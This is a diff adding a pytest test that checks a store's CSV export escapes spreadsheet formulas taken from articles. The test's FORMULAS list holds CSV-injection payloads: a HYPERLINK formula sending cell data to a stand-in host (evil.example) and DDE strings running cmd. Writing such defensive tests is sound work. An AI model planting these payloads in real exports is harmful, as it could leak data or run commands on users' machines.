@@ -328,6 +328,25 @@ def test_exported_files_keep_payloads_as_inert_text(store, tmp_path, fmt):
     assert (payload in names, raw) == (True, False)
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"]
+
+
+def test_csv_export_keeps_spreadsheet_formulas_from_articles_as_text(store, tmp_path):
+    import pandas as pd
+
+    for i, formula in enumerate(FORMULAS):
+        a = Article(Article.make_id(f"https://example.org/f{i}", ""), "t", url=f"https://example.org/f{i}",
+                    published="2024-01-01")
+        p = Entity("Person", f"formula-{i}", formula, (), {"country": "BLR"})
+        store.write(Fragment(a, (p, BLR), (Relation("LEADS", p.ref, BLR.ref, formula, "2024-01-01"),), ()))
+    out = store.export("csv", tmp_path / "csv")
+    names = set(pd.read_csv(out / "nodes.csv", keep_default_na=False).name)
+    evidence = set(pd.read_csv(out / "relationships.csv", keep_default_na=False).evidence)
+    inert = {"'" + f for f in FORMULAS}
+    assert (inert <= names, inert <= evidence, any(f in names | evidence for f in FORMULAS)) == (True, True, False)
+
+
 # --- 4. paths: uploads stay in their folder, exports go where they should ------------------------
 
 UPLOAD_NAMES = [
